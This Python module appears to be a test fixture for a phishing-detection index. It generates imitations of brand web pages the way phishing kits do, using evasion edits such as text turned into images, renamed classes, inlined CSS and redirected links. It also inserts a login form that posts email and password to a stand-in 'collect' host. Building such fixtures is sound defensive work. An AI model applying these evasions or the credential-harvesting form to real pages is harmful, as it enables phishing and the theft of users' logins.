"""Imitations of real pages made the way phishing kits make them, for the reference index tests.

A kit copies a brand's page to its own host and hides the copy from exact matching: text replaced
by pictures of it, class names renamed, the style sheets inlined, wrappers added, attributes
shuffled, links pointed elsewhere, and a login form that posts to the kit. ``imitate`` applies
every edit (seeded), each to a share of the page, and returns the imitation with its new URL.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass
from urllib.parse import urlsplit

import lxml.etree
import lxml.html

EDITS = (
    "copy_to_host",
    "text_to_images",
    "rename_classes",
    "inline_css",
    "add_wrappers",
    "shuffle_attributes",
    "links_elsewhere",
    "login_form",
)
_TEXT_TAGS = ("h1", "h2", "h3", "p", "li", "span", "a", "button")
_DECLARATIONS = (
    "color:#222",
    "margin:0 auto",
    "padding:4px 8px",
    "font-family:Arial,sans-serif",
    "display:block",
    "font-size:14px",
    "line-height:1.4",
    "background:#fff",
)


@dataclass(frozen=True)
class Imitation:
    """An imitation of a page: its HTML, its URL on the kit's host, and the edits made."""

    html: str
    url: str
    edits: tuple[str, ...]


def _token(rng: random.Random, length: int = 8) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(length))


def imitate(html: str | bytes, url: str, seed: int, share: float = 0.5) -> Imitation:
    """Return an imitation of the page at ``url`` with every edit of ``EDITS`` made (each to
    about ``share`` of the elements it applies to), on a host of its own."""
    rng = random.Random(seed)
    root = lxml.html.document_fromstring(html)
    host = f"{_token(rng, 6)}-secure-{_token(rng, 4)}.example"
    parts = urlsplit(url)
    new_url = f"https://{host}{parts.path or '/'}"
    body = root.find("body")
    if body is None:
        body = lxml.etree.SubElement(root, "body")
    # text replaced by images of it
    for element in list(root.iter(*_TEXT_TAGS)):
        if element.text and element.text.strip() and not len(element) and rng.random() < share:
            picture = lxml.etree.Element("img", src=f"data:image/png;base64,{_token(rng, 24)}")
            picture.set("alt", "")
            element.text = None
            element.append(picture)
    # class names renamed (consistently)
    renamed: dict[str, str] = {}
    for element in root.iter():
        names = element.get("class") if isinstance(element.tag, str) else None
        if names:
            element.set(
                "class", " ".join(renamed.setdefault(n, _token(rng)) for n in names.split())
            )
    # CSS inlined: the style sheets removed, declarations on the elements
    for sheet in list(root.iter("style")) + [
        link for link in root.iter("link") if "stylesheet" in (link.get("rel") or "")
    ]:
        sheet.getparent().remove(sheet)
    for element in body.iter():
        if isinstance(element.tag, str) and rng.random() < share:
            element.set("style", ";".join(rng.sample(_DECLARATIONS, 3)))
    # wrappers added around a share of the body's blocks
    for child in list(body):
        if isinstance(child.tag, str) and rng.random() < share:
            wrapper = lxml.etree.Element("div", {"class": _token(rng)})
            child.addprevious(wrapper)
            wrapper.append(child)
    # attribute order shuffled
    for element in root.iter():
        if isinstance(element.tag, str) and len(element.attrib) > 1:
            items = list(element.attrib.items())
            rng.shuffle(items)
            element.attrib.clear()
            for name, value in items:
                element.set(name, value)
    # links pointed elsewhere
    for anchor in root.iter("a"):
        if anchor.get("href") is not None:
            anchor.set("href", f"https://{host}/{_token(rng, 5)}")
    # a login form posting to the kit, first in the body
    form = lxml.html.fragment_fromstring(
        f'<form action="https://collect.{host}/post" method="post">'
        '<input type="email" name="user" placeholder="Email">'
        '<input type="password" name="pass" placeholder="Password">'
        '<button type="submit">Sign in</button></form>'
    )
    body.insert(0, form)
    text = lxml.html.tostring(root, encoding="unicode", doctype="<!DOCTYPE html>")
    return Imitation(text, new_url, EDITS)
